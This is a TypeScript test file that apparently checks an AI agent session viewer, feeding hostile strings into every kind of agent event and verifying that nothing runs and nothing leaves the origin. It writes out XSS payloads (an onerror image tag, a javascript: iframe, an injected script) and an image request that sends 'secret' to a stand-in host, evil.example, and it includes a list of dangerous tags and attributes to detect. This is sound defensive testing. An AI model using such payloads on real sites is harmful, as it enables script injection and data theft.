// Every payload of an agent in every part of the page that shows it: none runs, and nothing leaves the origin.
// QUAYSIDE_HOSTILE_WORDS=500 sets the number of payloads; all families are always included.
import { ScriptedHub, type ScriptedSession } from '@quayside/client/testing'
import type { EventBody, SessionUpdate } from '@quayside/protocol'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { hostileWords } from './hostile-words.js'
import { goTo } from './reused-pages.js'
import { Stage, useScriptedHub } from './scripted-page.js'

const WORDS = hostileWords(Number(process.env['QUAYSIDE_HOSTILE_WORDS'] ?? 0))
const PER_SESSION = 120
/** Tall enough for most rows at once, and scaled down, which is cheap. */
const SCREEN = { viewport: { width: 1200, height: 6_000 }, deviceScaleFactor: 0.25 }

const stage = new Stage()

test('there are enough ways to attack', ({ task }) => {
  expect(new Set(WORDS).size).toBeGreaterThanOrEqual(150)
  Object.assign(task.meta, { figure: { what: 'hostile texts on the page', count: WORDS.length } })
})

const GROUPS = Array.from({ length: Math.ceil(WORDS.length / PER_SESSION) }, (_, index) => ({
  from: index * PER_SESSION,
  payloads: WORDS.slice(index * PER_SESSION, (index + 1) * PER_SESSION),
}))

test.each(GROUPS)('words from $from on are only ever text', async ({ payloads }) => {
  const { page, faults } = await stage.open(SCREEN)
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const hub = hostileHub(payloads)
  await useScriptedHub(page.context(), hub)
  await page.goto(`${stage.origin}/s/${withPermission(hub, payloads).id}`)
  await page.getByLabel('Needs your decision').waitFor()
  expect(await readThrough(page)).toEqual([])
  await openMenus(page)
  await goTo(page, `/s/${withQuestion(hub, payloads).id}`)
  await page.getByLabel('Needs your decision').waitFor()
  expect(await readThrough(page)).toEqual([])

  expect(await page.evaluate(() => 'owned' in globalThis)).toBe(false)
  expect(dialogs).toEqual([])
  expect(faults).toEqual([])
})

test('the checks find planted violations', async () => {
  const { page } = await stage.open(SCREEN)
  const hub = await useScriptedHub(page.context())
  await page.goto(`${stage.origin}/s/${withPermission(hub, ['harmless']).id}`)
  await page.getByLabel('Needs your decision').waitFor()
  await page.evaluate(() => {
    const link = document.createElement('a')
    Object.assign(link, { href: 'javascript:void 0', target: '_blank' })
    document.querySelector('.timeline')?.append(link, document.createElement('iframe'))
  })
  expect(await readThrough(page)).toEqual(['javascript:void 0', 'rel ', 'iframe'])
})

test('the policy of the hub holds even where the page would have a hole', async () => {
  const { page } = await stage.open(SCREEN)
  await page.goto(stage.origin)
  const kept = await page.evaluate(async () => {
    const attack = '<img src=x onerror="globalThis.owned=1">'
    const sinks: Record<string, () => unknown> = {
      innerHTML: () => (document.body.innerHTML = attack),
      outerHTML: () => (document.body.outerHTML = attack),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', attack),
      write: () => document.write(attack),
      srcdoc: () => (document.createElement('iframe').srcdoc = attack),
      parse: () => new DOMParser().parseFromString(attack, 'text/html'),
      fragment: () => document.createRange().createContextualFragment(attack),
      script: () => {
        const script = document.createElement('script')
        script.textContent = 'globalThis.owned=1'
        document.body.append(script)
      },
    }
    const open = Object.entries(sinks).filter(([, use]) => {
      try {
        use()
        return true
      } catch {
        return false
      }
    })
    // Injected elements and foreign addresses, which types do not guard.
    const frame = document.createElement('iframe')
    frame.src = 'javascript:parent.owned=1'
    const image = document.createElement('img')
    image.src = 'https://evil.example/?q=secret'
    const blocked: string[] = []
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => {
      blocked.push(violatedDirective)
    })
    document.body.append(frame, image)
    while (!blocked.includes('img-src')) await new Promise(requestAnimationFrame)
    return { open: open.map(([name]) => name), isOwned: 'owned' in globalThis }
  })
  expect(kept).toEqual({ open: [], isOwned: false })
})

function hostileHub(payloads: readonly string[]): ScriptedHub {
  const hub = new ScriptedHub()
  const all = payloads.join(' ')
  Object.assign(hub.repos[0]!, { name: all, branch: all, path: `/${all}` })
  Object.assign(hub.extensions[0]!, { name: all })
  hub.commands['repo/files'] = () => ({ files: [...payloads], total: payloads.length })
  return hub
}

function withPermission(hub: ScriptedHub, payloads: readonly string[]): ScriptedSession {
  const session = talk(hub, payloads)
  session.append({
    type: 'permission.requested',
    data: {
      permissionId: 'p',
      toolCall: {
        toolCallId: 'asked',
        title: payloads.join('\n'),
        kind: 'execute',
        rawInput: Object.fromEntries(payloads.map((text) => [text, text])),
        content: payloads.map((text) => ({ type: 'diff', path: text, newText: text })),
      },
      options: payloads.map((text, index) => ({ optionId: `${index}`, name: text, kind: text })),
    },
  })
  return session
}

function withQuestion(hub: ScriptedHub, payloads: readonly string[]): ScriptedSession {
  const session = hub.addSession({ title: payloads.join(' ') })
  const properties = payloads.map((text, index) => [
    `${text}${index}`,
    {
      type: index % 2 === 0 ? 'string' : 'boolean',
      title: text,
      description: text,
      ...(index % 4 === 0 && { enum: payloads, enumNames: payloads }),
    },
  ])
  const requestedSchema = { type: 'object', properties: Object.fromEntries(properties) }
  const message = payloads.join('\n')
  const asked = { message, requestedSchema }
  session.append(
    { type: 'agent.started', data: { acpSessionId: 'a', how: 'new' } },
    ...payloads.map((url, index): EventBody => {
      const data = { questionId: `url-${index}`, message: url, mode: 'url', url }
      return { type: 'question.asked', data }
    }),
    ...payloads.map((_, index): EventBody => {
      const data = { questionId: `url-${index}`, action: 'decline' as const, by: message }
      return { type: 'question.answered', data }
    }),
    { type: 'question.asked', data: { questionId: 'q', mode: 'form', ...asked } },
  )
  return session
}

/** A turn with each payload in every kind of update. */
function talk(hub: ScriptedHub, payloads: readonly string[]): ScriptedSession {
  const all = payloads.join(' ')
  const session = hub.addSession({ title: all })
  const prompt = payloads.map((text) => ({ type: 'text' as const, text }))
  const options = payloads.map((text, index) => ({
    value: `${index}`,
    name: text,
    description: text,
  }))
  const choice = { id: 'm', name: all, type: 'select', currentValue: '0', options }
  session.append(
    {
      type: 'agent.started',
      data: { acpSessionId: 'a', how: 'new', configOptions: [choice] },
    },
    { type: 'turn.queued', data: { turnId: 't', prompt, by: all } },
    { type: 'turn.started', data: { turnId: 't' } },
    ...payloads.flatMap((text, index) => saidIn(text, index)),
    update({ sessionUpdate: 'plan', entries: prompt.map(({ text: content }) => ({ content })) }),
    update({ sessionUpdate: 'session_info_update', title: all }),
    update({
      sessionUpdate: 'available_commands_update',
      availableCommands: payloads.map((name) => ({
        name,
        description: name,
        input: { hint: name },
      })),
    }),
    update({ sessionUpdate: 'usage_update', used: 1, size: 2, cost: { amount: 1, currency: all } }),
    {
      type: 'turn.ended',
      data: { turnId: 't', error: { code: 'agent_failed', message: all, details: { acp: all } } },
    },
  )
  return session
}

function saidIn(text: string, index: number): EventBody[] {
  const content = { type: 'text', text }
  const tool = (kind: string, more: object) =>
    update({
      sessionUpdate: 'tool_call',
      toolCallId: `${index}${kind}`,
      kind,
      title: text,
      ...more,
    })
  const terminalId = `terminal-${index}`
  return [
    update({ sessionUpdate: 'agent_thought_chunk', messageId: `h${index}`, content }),
    update({ sessionUpdate: 'agent_message_chunk', messageId: `m${index}`, content }),
    ...['image', 'audio'].map((type) => shown({ type, mimeType: text, data: text, uri: text })),
    shown({ type: 'image', mimeType: 'image/png', uri: `/media/${text}` }),
    shown({ type: 'resource_link', uri: text, name: text, title: text }),
    shown({ type: 'resource', resource: { uri: text, text } }),
    tool('execute', { status: 'failed', content: [{ type: 'content', content }] }),
    tool('edit', {
      status: 'completed',
      content: [{ type: 'diff', path: text, oldText: `a\n${text}`, newText: `b\n${text} ` }],
    }),
    tool(text, { status: text, rawOutput: { [text]: text }, rawInput: text }),
    tool('read', { status: 'failed', locations: [{ path: text, line: 1 }] }),
    { type: 'terminal.opened', data: { terminalId, command: text, args: [text], cwd: text } },
    tool('other', { status: 'failed', content: [{ type: 'terminal', terminalId }] }),
    {
      type: 'terminal.exited',
      data: { terminalId, exitCode: null, signal: text, output: text, truncated: true },
    },
    { type: 'notice', data: { severity: 'warning', code: text, message: text } },
    {
      type: 'notice',
      data: { severity: 'error', code: text, message: text, details: { acp: text } },
    },
  ]
}

function shown(content: object): EventBody {
  return update({ sessionUpdate: 'agent_message_chunk', content })
}

function update(update: SessionUpdate): EventBody {
  return { type: 'acp.update', data: { turnId: 't', update } }
}

/** Scrolls through all rows, opens everything that opens, and returns what should not be there. */
function readThrough(page: Page): Promise<readonly string[]> {
  return page.evaluate(async () => {
    const scroller = document.querySelector('.timeline')
    if (!scroller) return ['no timeline']
    const found = new Set<string>()
    const frame = () => new Promise(requestAnimationFrame)
    const allowed = /^(?:https?|mailto):$/
    function inspect(): void {
      for (const element of document.querySelectorAll('body *')) {
        const name = element.localName
        if (
          /^(?:script|iframe|object|embed|base|meta|link|style|video|audio|frame|portal)$/.test(
            name,
          )
        )
          if (element.parentElement?.id !== 'root' && !element.matches('body > script'))
            found.add(name)
        for (const { name: attribute } of element.attributes)
          if (/^on|^srcdoc$|^srcset$|^ping$|^formaction$/.test(attribute)) found.add(attribute)
        if (element instanceof HTMLAnchorElement && element.target === '_blank') {
          const isOwn = element.getAttribute('href')?.startsWith('/media/')
          const isData = element.protocol === 'data:' && element.href.startsWith('data:image/png')
          if (!isOwn && !isData && !allowed.test(element.protocol)) found.add(element.href)
          if (element.rel !== 'noopener noreferrer nofollow') found.add(`rel ${element.rel}`)
        }
      }
    }
    for (let top = 0; top <= scroller.scrollHeight; top += 4_000) {
      scroller.scrollTop = top
      await frame()
      await frame()
      for (const summary of document.querySelectorAll<HTMLElement>('details:not([open]) > summary'))
        summary.click()
      await frame()
      await frame()
      inspect()
    }
    return [...found]
  })
}

async function openMenus(page: Page): Promise<void> {
  await page.getByTestId('config-m').click()
  await page.getByRole('menu').waitFor()
  await page.keyboard.press('Escape')
  // The menu returns the focus when it closes.
  await page.waitForFunction(
    () => document.activeElement?.getAttribute('data-testid') === 'config-m',
  )
  for (const sign of ['@', '/']) {
    await page.getByTestId('composer-input').fill(sign)
    await page.getByRole('listbox').waitFor()
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    await page.getByTestId('composer-input').fill('')
  }
}
